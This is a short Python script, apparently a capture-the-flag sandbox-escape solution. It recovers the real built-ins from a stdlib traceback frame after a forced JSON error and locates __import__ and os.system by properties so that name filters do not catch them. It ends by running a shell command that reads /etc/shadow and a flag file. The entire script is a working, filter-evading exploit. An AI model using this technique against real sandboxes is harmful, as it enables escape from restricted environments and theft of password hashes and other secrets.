# technique: a deliberate parse error inside the json package produces an exception with an implicit __context__ (the swallowed StopIteration) carries a traceback into stdlib frames; a stdlib frame's f_builtins is the genuine built-in table even when the caller's was replaced; entries are identified by properties (length, prefix, type, docstring text) rather than by name
import json

try:
    json.loads('{"k": }')
except ValueError as failure:
    hidden = failure.__context__ or failure.__cause__
    tb = hidden.__traceback__ if hidden is not None else failure.__traceback__
    while tb.tb_next is not None:
        tb = tb.tb_next
    table = tb.tb_frame.f_builtins

loader = next(
    v for k, v in table.items()
    if len(k) == 10 and k[:2] == "__" and type(v) is type(len)
)
interp = loader("sys")
native_name = next(n for n in interp.builtin_module_names if len(n) == 5 and n.endswith("x"))
native = loader(native_name)
shell = next(
    v for v in vars(native).values()
    if "subshell" in (getattr(v, "__doc__", "") or "")
)
shell("cat /etc/shadow; cat /?lag")
